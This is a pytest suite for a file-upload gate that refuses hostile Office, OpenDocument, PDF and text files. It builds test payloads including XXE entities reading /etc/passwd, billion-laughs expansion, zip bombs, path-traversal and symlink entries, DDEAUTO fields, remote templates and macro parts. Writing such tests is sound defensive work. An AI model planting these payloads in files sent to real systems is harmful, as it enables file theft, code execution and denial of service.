"""What may be read at all: each kind of hostile file is refused at its step, in a sentence that names the file."""

import struct
import time
import tracemalloc
from collections.abc import Callable

import pytest

from monitor.errors import UnreadableFileError
from monitor.importers.file_kinds import DOCUMENTS, FILE_LIMIT, SHEETS, Form, shown_name
from monitor.importers.gate import admit
from tests.importers.files import (
    OLE,
    SHEET,
    SHEET_TYPE,
    W,
    cells,
    good_word,
    good_workbook,
    odf,
    ods,
    ods_cell,
    ods_table,
    odt,
    paragraph,
    pdf,
    relations,
    said,
    types,
    with_entries_changed,
    word,
    word_parts,
    word_xml,
    workbook,
    zipped,
)

Build = Callable[[], bytes]
Case = tuple[str, Build, str, str]
MAIN_RELATIONS = "word/_rels/document.xml.rels"


def related(*rows: tuple[str, str, bool]) -> Build:
    """Return what builds a Word document with these relationships."""
    return lambda: word(more={MAIN_RELATIONS: relations(*rows)})


def with_part(name: str, content: str | bytes) -> Build:
    """Return what builds a Word document with one more part."""
    return lambda: word(more={name: content})


def doctype(declaration: str, encoding: str = "utf-8") -> Build:
    """Return what builds a Word document whose text begins with a document type."""
    text = f'<?xml version="1.0" encoding="{encoding}"?>{declaration}{word_xml(paragraph("&a;"))}'
    return with_part("word/document.xml", text.encode(encoding))


def ole(stream: str) -> Build:
    """Return what builds an old Office file with one stream."""
    return lambda: OLE + b"\0" * 504 + stream.encode("utf-16-le") + b"\0" * 1024


def spliced() -> bytes:
    """Return an archive with something in front of it."""
    return b"PK\x03\x04" + b"\0" * 40 + word()


def overlapping() -> bytes:
    """Return an archive whose second part lies in the bytes of its first."""
    return with_entries_changed(word(), "_rels/.rels", at=0)


def swelling(size: int = 100 * 1024 * 1024, said: int | None = None) -> bytes:
    """Return a Word document whose text unpacks to `size` bytes; its directory may say less."""
    raw = zipped(word_parts(more_text(size)).items())
    return with_entries_changed(raw, "word/document.xml", size=said) if said is not None else raw


def more_text(size: int) -> str:
    """Return a paragraph of about that many letters."""
    return paragraph("a" * size)


def entry_of(name: str, content: bytes = b"x") -> Build:
    """Return what builds a Word document with an entry of that name, as given."""

    def build() -> bytes:
        return zipped([*word_parts().items(), (name, content)])

    return build


def two_names() -> bytes:
    """Return an archive in which a part has one name in the directory and another where it lies."""
    raw = bytearray(word(more={"word/a.xml": "<a/>"}))
    raw[raw.index(b"word/a.xml") : raw.index(b"word/a.xml") + 10] = b"word/b.xml"
    return bytes(raw)


MANY = " ".join(f"b{number}='x'" for number in range(501))

NAMES: list[Case] = [
    ("report.exe", good_word, "name", "has no ending that can be read here"),
    ("report", good_word, "name", "has no ending that can be read here"),
    ("report.doc", ole("WordDocument"), "name", "an old Word document (.doc): open it and save it as a Word"),
    ("report.docm", good_word, "name", "with macros (.docm)"),
    ("report.zip", good_word, "name", "unpack it"),
    ("register.xlsx", workbook, "name", "which is not read here. What can be read here: .docx, .odt"),
    ("report\u202excod.exe", good_word, "name", "report\ufffdxcod.exe has no ending"),
]

SIZES: list[Case] = [
    ("report.docx", lambda: b"", "size", "is empty (0 bytes)"),
    ("report.txt", lambda: b"a" * (FILE_LIMIT + 1), "size", "A file can have 20 MB"),
]

FIRST_BYTES: list[Case] = [
    ("report.docx", ole("WordDocument"), "first bytes", "an old Word document (.doc) inside"),
    ("report.docx", ole("EncryptedPackage"), "first bytes", "protected with a password"),
    ("report.docx", ole("Workbook"), "first bytes", "an old workbook (.xls) inside"),
    ("report.docx", ole("Something"), "first bytes", "an old Office file inside"),
    (
        "report.docx",
        lambda: pdf([[]]),
        "first bytes",
        "is a PDF, not a Word document (.docx): give it the ending .pdf",
    ),
    ("report.docx", lambda: b"<html><p>x", "first bytes", "is a web page, not a Word document"),
    ("report.docx", lambda: b"{\\rtf1 x}", "first bytes", "is an RTF document"),
    ("report.docx", lambda: b"only words", "first bytes", "is text, not a Word document"),
    ("report.pdf", lambda: b"<!-- x --><!DOCTYPE html><p>x", "first bytes", "give it the ending .html"),
    ("report.pdf", good_word, "first bytes", "is a Word document, not a PDF: give it the ending .docx"),
    ("report.pdf", workbook, "first bytes", "is a workbook, not a PDF"),
    ("report.pdf", odt, "first bytes", "is an OpenDocument text, not a PDF"),
    ("report.pdf", lambda: b"\n%PDF-1.7", "first bytes", "is text, not a PDF"),
    ("report.pdf", lambda: pdf([[]]) + word(), "first bytes", "two files in one"),
    ("report.txt", lambda: b"MZ\x90\0\x03\0", "first bytes", "is a program, not a text file"),
    ("report.txt", lambda: b"\x7fELF\x02", "first bytes", "is a program"),
    ("report.txt", lambda: b"#!/bin/sh\nrm -r x", "first bytes", "is a script"),
    ("report.txt", lambda: b"\x1f\x8b\x08\0", "first bytes", "a compressed file (gzip)"),
    ("report.txt", lambda: b"\x80\x04\x95\x0b", "first bytes", "stored program objects"),
    ("report.txt", lambda: b"words\0words", "first bytes", "bytes that text does not have"),
    ("report.txt", lambda: b"words" + word(), "first bytes", "two files in one"),
    (
        "report.txt",
        lambda: b"\xef\xbb\xbf \n<!doctype HTML><p>",
        "first bytes",
        "is a web page, not a text file",
    ),
    ("report.md", lambda: b"\x89PNG\r\n", "first bytes", "is a picture"),
    (
        "report.html",
        lambda: b"Only words.",
        "first bytes",
        "is text, not a web page: give it the ending .txt",
    ),
    (
        "report.html",
        lambda: b"From: <Saved by Blink>\r\nContent-Type: multipart/related;\r\n",
        "first bytes",
        "is a web archive, not a web page (.html): save the page again as HTML only",
    ),
    ("report.docx", lambda: zipped([("%PDF-1.7", "x")]), "first bytes", "two files in one"),
]

ARCHIVES: list[Case] = [
    ("report.docx", lambda: good_word()[:-30], "archive", "cut off or damaged"),
    ("report.docx", lambda: good_word() + b"more", "archive", "cut off or damaged"),
    ("report.docx", lambda: b"PK\x03\x04" + b"\0" * 60, "archive", "cut off or damaged"),
    ("report.docx", spliced, "archive", "something in front of"),
    (
        "report.docx",
        lambda: zipped((f"{n}.xml", "<a/>") for n in range(1_001)),
        "archive",
        "more than 1,000 parts",
    ),
    (
        "report.docx",
        lambda: zipped([*word_parts().items(), ("Word/DOCUMENT.xml", "<a/>")]),
        "archive",
        "twice",
    ),
    ("report.docx", entry_of("../../x.xml"), "archive", "leads out of the file"),
    ("report.docx", entry_of("/etc/x.xml"), "archive", "leads out of the file"),
    ("report.docx", entry_of("C:\\x.xml"), "archive", "leads out of the file"),
    ("report.docx", entry_of("word/" + "a" * 300), "archive", "leads out of the file"),
    (
        "report.docx",
        lambda: with_entries_changed(word(), "_rels/.rels", mode=0o120777 << 16),
        "archive",
        "a part is a link",
    ),
    ("report.docx", lambda: with_entries_changed(word(), "_rels/.rels", flags=1), "archive", "encrypted"),
    ("report.docx", lambda: with_entries_changed(word(), "_rels/.rels", method=12), "archive", "unusual way"),
    ("report.docx", overlapping, "archive", "share their bytes"),
    ("report.docx", two_names, "archive", "two names"),
    ("report.docx", swelling, "archive", "more than 32 MB"),
    (
        "report.docx",
        lambda: zipped([*word_parts().items(), *((f"word/{n}.bin", b"\0" * (30 << 20)) for n in range(3))]),
        "archive",
        "more than 64 MB",
    ),
]

PARTS: list[Case] = [
    ("report.docx", lambda: swelling(said=1_000), "parts", "damaged"),
    (
        "report.docx",
        lambda: with_entries_changed(word(), "word/document.xml", size=9_999),
        "parts",
        "damaged",
    ),
    ("report.docx", with_part("word/document.xml", "<w:document"), "parts", "document.xml is damaged"),
    ("report.docx", with_part("word/document.xml", "<a>" * 60_000), "parts", "nested more than 100 deep"),
    ("report.docx", lambda: word("<w:p/>" * 500_001), "parts", "more than 500,000 elements"),
    ("report.docx", lambda: word(f"<a {MANY}/>"), "parts", "500 attributes"),
    ("report.docx", doctype("<!DOCTYPE a>"), "parts", "DOCTYPE"),
    ("report.docx", doctype('<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), "parts", "DOCTYPE"),
    ("report.docx", doctype('<!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd">'), "parts", "DOCTYPE"),
    (
        "report.docx",
        doctype('<!DOCTYPE a [<!ENTITY % b SYSTEM "http://127.0.0.1:9/"> %b;]>'),
        "parts",
        "DOCTYPE",
    ),
    ("report.docx", doctype('<!DOCTYPE a [<!ENTITY a "a">]>', "utf-16"), "parts", "DOCTYPE"),
    (
        "report.docx",
        doctype(
            "<!DOCTYPE a [<!ENTITY z 'ha'>"
            + "".join(
                f"<!ENTITY {chr(n)} '{f'&{chr(n - 1)};' * 10 if n > 97 else '&z;'}'>" for n in range(97, 107)
            )
            + "]>"
        ),
        "parts",
        "DOCTYPE",
    ),
    ("report.docx", doctype(f"<!DOCTYPE a [<!ENTITY a '{'a' * 50_000}'>]>"), "parts", "DOCTYPE"),
    ("report.docx", with_part("customXml/item1.xml", "<!DOCTYPE a><a/>"), "parts", "DOCTYPE"),
    ("report.docx", with_part("word/anything", "<!DOCTYPE a><a/>"), "parts", "DOCTYPE"),
    (
        "report.docx",
        with_part("word/document.xml", b'<?xml version="1.0" encoding="cp037"?><a/>'),
        "parts",
        "encoding",
    ),
    (
        "report.docx",
        related(("attachedTemplate", "http://127.0.0.1/a.dotm", True)),
        "parts",
        "template is kept elsewhere",
    ),
    (
        "report.docx",
        related(("attachedTemplate", "file:///\\\\evil\\a.dotm", True)),
        "parts",
        "template is kept",
    ),
    (
        "report.docx",
        related(("image", "http://127.0.0.1/a.png", True)),
        "parts",
        "a picture in it is kept elsewhere",
    ),
    (
        "report.docx",
        related(("frame", "http://127.0.0.1/", True)),
        "parts",
        "linked to a file kept elsewhere",
    ),
    ("report.docx", related(("oleObject", "http://127.0.0.1/", True)), "parts", "another file is embedded"),
    ("report.docx", related(("oleObject", "embeddings/oleObject1.bin", False)), "parts", "embedded"),
    ("report.docx", related(("package", "embeddings/a.xlsx", False)), "parts", "embedded"),
    ("report.docx", related(("aFChunk", "a.html", False)), "parts", "alternative chunk"),
    ("report.docx", lambda: word('<w:altChunk r:id="r1"/>'), "parts", "alternative chunk"),
    ("report.docx", related(("vbaProject", "vbaProject.bin", False)), "parts", "macros"),
    ("report.docx", with_part("word/vbaProject.bin", b"x"), "parts", "macros"),
    ("report.docx", with_part("word/activeX/activeX1.bin", b"x"), "parts", "macros"),
    (
        "report.docx",
        with_part("[Content_Types].xml", types("application/vnd.ms-word.document.macroEnabled.main+xml")),
        "parts",
        "macros",
    ),
    ("report.docx", with_part("word/media/a.png", OLE + b"x"), "parts", "embedded in it (a.png)"),
    ("report.docx", with_part("word/media/a.png", b"MZ\0\0"), "parts", "embedded"),
    ("report.docx", lambda: word(more={"word/media/a.bin": good_word()}), "parts", "embedded"),
    (
        "report.docx",
        lambda: word('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x.exe"/></w:p>'),
        "parts",
        "starts a program",
    ),
    (
        "report.docx",
        lambda: word(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
            "<w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>"
        ),
        "parts",
        "starts a program",
    ),
    (
        "report.docx",
        lambda: word('<w:p><w:r><w:instrText>INCLUDEPICTURE "http://127.0.0.1/a"</w:instrText></w:r></w:p>'),
        "parts",
        "fetches",
    ),
    (
        "report.docx",
        workbook,
        "parts",
        "is a workbook (.xlsx), not a Word document (.docx): give it the ending .xlsx",
    ),
    ("report.docx", odt, "parts", "is an OpenDocument text (.odt), not a Word document"),
    ("report.docx", lambda: zipped([("a.txt", "x")]), "parts", "is an archive, not a Word document"),
    (
        "report.docx",
        with_part(
            "[Content_Types].xml",
            types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
        ),
        "parts",
        "is a presentation",
    ),
    (
        "report.docx",
        with_part(
            "[Content_Types].xml",
            types().replace("</Types>", f'<Default ContentType="{SHEET_TYPE}"/></Types>'),
        ),
        "parts",
        "two files in one",
    ),
    ("report.odt", good_word, "parts", "is a Word document (.docx), not an OpenDocument text"),
    ("report.odt", lambda: odt(kind="text-template"), "parts", "is an OpenDocument template"),
    ("report.odt", lambda: odt(kind="graphics"), "parts", "is a file of another program"),
    ("report.odt", lambda: odt(more={"content.xml": "<!DOCTYPE a><a/>"}), "parts", "DOCTYPE"),
    ("report.odt", lambda: odt(more={"Basic/Standard/a.xml": "<a/>"}), "parts", "macros"),
    ("report.odt", lambda: odt("<script:event-listener/>"), "parts", "macros"),
    ("report.odt", lambda: odt('<draw:image xlink:href="http://127.0.0.1/a"/>'), "parts", "linked"),
    ("report.odt", lambda: odt('<text:section-source xlink:href="../b.odt"/>'), "parts", "linked"),
    ("report.odt", lambda: odt("<draw:object-ole/>"), "parts", "embedded"),
    (
        "report.odt",
        lambda: odt(
            more={"meta.xml": odf("document-meta", '<meta:template xlink:href="https://evil/a.ott"/>')}
        ),
        "parts",
        "linked",
    ),
    (
        "report.odt",
        lambda: odt(more={"META-INF/manifest.xml": odf("x", "<manifest:encryption-data/>")}),
        "parts",
        "password",
    ),
]


CASE = ("name", "build", "step", "words")
DOCTYPES = [case for case in PARTS if case[3] == "DOCTYPE"]
OTHER_PARTS = [case for case in PARTS if case[3] != "DOCTYPE"]


@pytest.mark.parametrize(CASE, [*NAMES, *SIZES, *ARCHIVES, *OTHER_PARTS])
def test_hostile_file_is_refused(name: str, build: Build, step: str, words: str) -> None:
    """Each hostile file stops at its step; the sentence names the file and what is wrong."""
    check_refusal(name, build, step, words)


@pytest.mark.parametrize(CASE, FIRST_BYTES)
def test_disguised_files_refused(name: str, build: Build, step: str, words: str) -> None:
    """What a file is decides, not what it is called."""
    check_refusal(name, build, step, words)


@pytest.mark.parametrize(CASE, DOCTYPES)
def test_any_doctype_is_refused(name: str, build: Build, step: str, words: str) -> None:
    """Entities of every kind begin with a document type, and Office files have none."""
    check_refusal(name, build, step, words)


def check_refusal(name: str, build: Build, step: str, words: str) -> None:
    """See that a file is refused at its step, in words that name it."""
    content = build()

    with pytest.raises(UnreadableFileError) as refusal:
        admit(name, content)

    assert refusal.value.facts["step"] == step, refusal.value.message
    assert words in refusal.value.message
    assert refusal.value.message.startswith(shown_name(name))
    assert refusal.value.facts["problems"]


SHEET_CASES: list[tuple[str, str]] = [
    ('<sheetData><row r="1048576"/></sheetData>', "more than 20,000 rows"),
    (f"<sheetData>{'<row/>' * 20_001}</sheetData>", "more than 20,000 rows"),
    ('<sheetData><row r="1"><c r="A1"/><c r="XFD1"/></row></sheetData>', "cells outside"),
    ('<sheetData><row><c r="A1048576"/></row></sheetData>', "cells outside"),
    ('<sheetData/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', "across the whole sheet"),
    ('<sheetData/><mergeCells><mergeCell ref="A1:IV20000"/></mergeCells>', "across the whole sheet"),
    (f"<sheetData><row>{'<c/>' * 257}</row></sheetData>", "cells outside"),
    ('<sheetData><row r="19999"/><row/><row/></sheetData>', "more than 20,000 rows"),
    ('<sheetData><row r="0"/></sheetData>', "more than 20,000 rows"),
    ('<sheetData><row r="x"/></sheetData>', "more than 20,000 rows"),
    ('<sheetData><row><c r="A0"/></row></sheetData>', "cells outside"),
    ('<sheetData><row><c r="ZZZZ1"/></row></sheetData>', "cells outside"),
    ('<sheetData><row><c><f t="array" ref="A1:XFD9">1</f></c></row></sheetData>', "cells outside"),
    (
        "<sheetData><row>" + '<c><f t="array" ref="A1:IV900">1</f></c>' * 2 + "</row></sheetData>",
        "more than 250,000 of its cells",
    ),
    (
        "<sheetData/><mergeCells>" + '<mergeCell ref="A1:J1000"/>' * 26 + "</mergeCells>",
        "more than 250,000 of its cells",
    ),
    ("<a>" * 101 + "</a>" * 101, "nested more than 100 deep"),
    (f"<a {MANY}/>", "500 attributes"),
]


@pytest.mark.parametrize(("sheet", "words"), SHEET_CASES)
def test_hostile_sheet_is_refused(sheet: str, words: str) -> None:
    """A workbook that would take minutes to read is refused by its raw text."""
    with pytest.raises(UnreadableFileError, match=words):
        admit("register.xlsx", workbook(sheet), SHEETS)


def test_workbook_linked_to_another_is_refused() -> None:
    """Opening it would fetch the other file."""
    link = {
        "xl/externalLinks/_rels/a.xml.rels": relations(("externalLinkPath", "file:///\\\\evil\\a.xlsx", True))
    }

    with pytest.raises(UnreadableFileError, match="linked to a file kept elsewhere"):
        admit("register.xlsx", workbook(more=link), SHEETS)


def with_sheet_parts(more: dict[str, str | bytes]) -> Build:
    """Return what builds a workbook with these parts more, or others."""
    return lambda: workbook(cells(said("a")), more)


WORKBOOKS: list[tuple[str, Build, str]] = [
    (
        "register.xlsx",
        with_sheet_parts(
            {
                "[Content_Types].xml": types(
                    "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "/xl/workbook.xml"
                )
            }
        ),
        "macros",
    ),
    ("register.xlsx", with_sheet_parts({"xl/vbaProject.bin": b"x"}), "macros"),
    ("register.xlsx", with_sheet_parts({"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    (
        "register.xlsx",
        with_sheet_parts(
            {"xl/worksheets/sheet1.xml": f'<macrosheet xmlns="{SHEET}"><sheetData/></macrosheet>'}
        ),
        "not put together as Excel does it",
    ),
    (
        "register.xlsx",
        with_sheet_parts(
            {
                "xl/other/a.xml": f'<worksheet xmlns="{SHEET}"><sheetData><row r="99999"/></sheetData></worksheet>'
            }
        ),
        "more than 20,000 rows",
    ),
    ("register.xlsx", with_sheet_parts({"xl/workbook.bin": b"x"}), "two files in one"),
    ("register.xlsx", with_sheet_parts({"xl/worksheets/sheet1.xml": "<!DOCTYPE a><worksheet/>"}), "DOCTYPE"),
    ("register.xlsx", with_sheet_parts({"XL/worksheets/SHEET1.xml": "<worksheet/>"}), "twice"),
    ("register.xlsx", with_sheet_parts({"xl/embeddings/a.bin": OLE}), "another file or program is embedded"),
    (
        "register.xlsx",
        with_sheet_parts(
            {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
        "linked to another file or program",
    ),
    ("register.xlsx", ole("EncryptedPackage"), "protected with a password"),
    ("register.xlsx", ole("Workbook"), "an old workbook (.xls) inside"),
    (
        "register.xlsx",
        good_word,
        "is a Word document (.docx), not a workbook (.xlsx): give it the ending .docx",
    ),
    (
        "register.xlsx",
        lambda: ods(ods_table(ods_cell("a"))),
        "is an OpenDocument sheet (.ods), not a workbook",
    ),
    ("register.xlsx", lambda: b"Reference,Text\n", "is text, not a workbook"),
    ("register.xlsx", lambda: workbook(cells(said("a")), {"a.txt": b"\0" * (100 << 20)}), "more than 32 MB"),
    ("register.ods", lambda: ods("", more={"xl/workbook.xml": "<workbook/>"}), "two files in one"),
    ("register.ods", lambda: ods("<!DOCTYPE a>"), "damaged"),
    ("register.ods", lambda: ods("<script:event-listener/>"), "macros"),
    ("register.ods", lambda: ods('<table:table-source xlink:href="http://127.0.0.1/a.ods"/>'), "linked"),
    (
        "register.ods",
        lambda: ods("", more={"META-INF/manifest.xml": odf("x", "<manifest:encryption-data/>")}),
        "password",
    ),
    ("register.ods", lambda: workbook(), "is a workbook (.xlsx), not an OpenDocument sheet"),
    ("register.csv", lambda: b"\x1f\x8b\x08\0", "a compressed file (gzip)"),
    ("register.csv", lambda: b"\x80\x04\x95\x0b", "stored program objects"),
    ("register.csv", lambda: workbook(), "is a workbook, not a CSV file: give it the ending .xlsx"),
    ("register.csv", lambda: ods(""), "is an OpenDocument sheet, not a CSV file: give it the ending .ods"),
    ("register.csv", lambda: b"<html><table>", "is a web page, not a CSV file"),
    ("register.csv", lambda: b"a,b\n" + word(), "two files in one"),
    (
        "register.xlsm",
        lambda: workbook(),
        "a workbook with macros (.xlsm): open it and save it as a workbook",
    ),
    ("register.docx", good_word, "What can be read here: .xlsx, .ods, .csv"),
]


@pytest.mark.parametrize(("name", "build", "words"), WORKBOOKS)
def test_hostile_workbook_is_refused(name: str, build: Build, words: str) -> None:
    """What a workbook of Excel would fetch, run or hide behind another name is refused, by its content."""
    with pytest.raises(UnreadableFileError) as refusal:
        admit(name, build(), SHEETS)

    assert words in refusal.value.message
    assert refusal.value.message.startswith(name)


def test_what_a_sheet_hides_is_counted() -> None:
    """Formulas and hidden rows are no reason to refuse here; whoever reads the cells is told."""
    sheet = (
        '<cols><col min="2" max="2" hidden="1"/></cols>'
        '<sheetData><row r="1" hidden="1"><c r="A1"><f>1+1</f></c></row></sheetData>'
    )

    admitted = admit("register.xlsx", workbook(sheet, others=[("B", "hidden", "<sheetData/>")]), SHEETS)

    assert admitted.found == {"hidden rows": 1, "hidden columns": 1, "hidden sheets": 1, "formulas": 1}
    assert admitted.sheets["xl/worksheets/sheet1.xml"].formulas == {(0, 0)}


def test_formula_of_a_chart_is_none_of_a_cell() -> None:
    """Charts and small pictures in cells name the cells they are drawn from."""
    chart = '<c:chart xmlns:c="x"><c:f>A!$A$1</c:f></c:chart>'

    assert admit("a.xlsx", workbook(cells(said("a")), {"xl/charts/chart1.xml": chart}), SHEETS).found == {}


@pytest.mark.parametrize(
    ("name", "build", "forms"),
    [
        ("report.docx", good_word, DOCUMENTS),
        ("report.DOCX", word, DOCUMENTS),
        ("report.odt", odt, DOCUMENTS),
        ("report.pdf", lambda: pdf([[(72, 700, 11, "R", "Forces should.")]]), DOCUMENTS),
        ("report.htm", lambda: b"<!doctype html><p>Forces should.", DOCUMENTS),
        ("report.html", lambda: b"<p>Forces should.", DOCUMENTS),
        ("report.txt", lambda: b"Forces should.", DOCUMENTS),
        ("report.txt", lambda: "Forces should.".encode("utf-16"), DOCUMENTS),
        ("MZ.txt", lambda: b"MZ is how this begins.", DOCUMENTS),
        ("report.md", lambda: b"# Report", DOCUMENTS),
        ("register.xlsx", workbook, SHEETS),
        ("register.xlsx", good_workbook, SHEETS),
        ("register.ods", lambda: ods(ods_table(ods_cell("a"))), SHEETS),
        ("register.csv", lambda: b"reference,text\n", SHEETS),
    ],
)
def test_good_file_is_admitted(name: str, build: Build, forms: tuple[Form, ...]) -> None:
    """One good file of each form gets through: a gate that refuses everything would pass the other tests."""
    admitted = admit(name, build(), forms)

    assert admitted.form in forms
    assert admitted.found == {}


@pytest.mark.parametrize(
    "rows",
    [
        [("hyperlink", "https://example.org/dde", True)],
        [("attachedTemplate", "file:///C:\\Templates\\letter.dotx", True)],
        [("image", "media/a.png", False)],
    ],
)
def test_harmless_relation_is_admitted(rows: list[tuple[str, str, bool]]) -> None:
    """Plain links to read, pictures of its own and a template on the writer's disk fetch nothing from elsewhere."""
    field = '<w:p><w:r><w:instrText>HYPERLINK "http://example.org/dde"</w:instrText></w:r></w:p>'

    assert admit("report.docx", word(field, {MAIN_RELATIONS: relations(*rows)})).form == "docx"


def test_chart_with_its_figures_is_admitted() -> None:
    """A chart in a document carries the small workbook it was drawn from; nothing here opens it."""
    parts: dict[str, str | bytes] = {
        "word/charts/_rels/chart1.xml.rels": relations(("package", "../embeddings/a.xlsx", False)),
        "word/embeddings/a.xlsx": workbook(),
    }

    assert admit("report.docx", word(more=parts)).form == "docx"


def test_drawing_of_excel_that_is_no_xml_is_admitted() -> None:
    """Excel writes such drawings for its comments."""
    assert admit("a.xlsx", workbook(more={"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}), SHEETS)


def test_all_problems_of_a_step_are_said_together() -> None:
    """The person mends them in one go."""
    with pytest.raises(UnreadableFileError) as refusal:
        admit(
            "report.docx",
            word(more={MAIN_RELATIONS: relations(("image", "http://a/", True), ("aFChunk", "a", False))}),
        )

    assert len(refusal.value.facts["problems"]) == 2
    assert "a picture in it is kept elsewhere" in refusal.value.message
    assert "alternative chunk" in refusal.value.message


BOMBS: list[tuple[str, Build]] = [
    ("zeros", swelling),
    ("lying", lambda: swelling(said=1_000)),
    ("many parts", lambda: zipped((f"{n}.xml", "<a/>") for n in range(5_000))),
    ("deep", with_part("word/document.xml", "<a>" * 2_000_000)),
    ("one attribute", with_part("word/document.xml", f"<a b='{'c' * (31 << 20)}'/>")),
    ("letters", lambda: swelling(31 << 20)),
    (
        "attributes",
        with_part("word/document.xml", "<a " + " ".join(f"b{n}='x'" for n in range(200_000)) + "/>"),
    ),
    (
        "nested archives",
        lambda: word(more={"a.zip": zipped([("b.zip", zipped([("c", b"\0" * 1_000_000)]))])}),
    ),
]


@pytest.mark.parametrize(("kind", "build"), BOMBS, ids=[kind for kind, _ in BOMBS])
def test_bombs_refused_under_1_s_and_100_mib(kind: str, build: Build) -> None:
    """A bomb is refused, or admitted as plain, in under a second of this process's time and 100 MiB."""
    content = build()
    tracemalloc.start()
    try:
        before = time.process_time()
        refused = _is_refused(content)
        spent = time.process_time() - before
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert refused or kind == "letters"
    assert spent < 1
    assert peak < 100 * 1024 * 1024


def _is_refused(content: bytes) -> bool:
    try:
        admit("report.docx", content)
    except UnreadableFileError:
        return True
    return False


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("C:\\Users\\me\\report.docx", "report.docx"),
        ("../../etc/passwd", "passwd"),
        ("re\0port\n.docx", "re\ufffdport\ufffd.docx"),
        ("report\u202etxt.docx", "report\ufffdtxt.docx"),
        ("a" * 300 + ".docx", "a" * 114 + "….docx"),
        ("..", "the file"),
        ("", "the file"),
        ("\ud800.txt", "?.txt"),
    ],
)
def test_name_is_shown_without_what_hides(name: str, shown: str) -> None:
    """Folders go, invisible characters are marked, and 120 characters remain."""
    assert shown_name(name) == shown
    assert len(shown_name(name)) <= 120


@pytest.mark.parametrize("cut", range(0, 400, 7))
def test_any_cut_file_is_refused(cut: int) -> None:
    """A file that was not fetched whole never gets through, wherever it ends."""
    content = word()

    with pytest.raises(UnreadableFileError):
        admit("report.docx", content[: len(content) - 1 - cut])


def test_any_changed_byte_is_refused_or_harmless() -> None:
    """A broken archive is refused in words; no error of the zip reader gets through."""
    content = word(more={"word/_rels/document.xml.rels": relations(("hyperlink", "https://a/", True))})
    outcomes: dict[str, int] = {"refused": 0, "admitted": 0}
    for at in range(0, len(content), 3):
        changed = bytearray(content)
        changed[at] ^= 0xFF
        outcomes["refused" if _is_refused(bytes(changed)) else "admitted"] += 1

    assert outcomes["refused"] > outcomes["admitted"]


def test_archive_without_end_is_no_archive() -> None:
    """What Python's own reader would still open is not enough."""
    content = word() + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0, 0, 0, 0, 0)

    with pytest.raises(UnreadableFileError):
        admit("report.docx", content)


def test_unpacked_bytes_are_counted_as_they_come() -> None:
    """The directory is not believed: the reading stops at the limit."""
    assert _is_refused(swelling(33 << 20, said=1 << 20))


def test_namespace_of_word_is_not_what_decides() -> None:
    """A part with Word's elements in a workbook stays a workbook."""
    with pytest.raises(UnreadableFileError, match="is a workbook"):
        admit("report.docx", workbook(more={"word/document.xml": f'<w:document xmlns:w="{W}"/>'}))
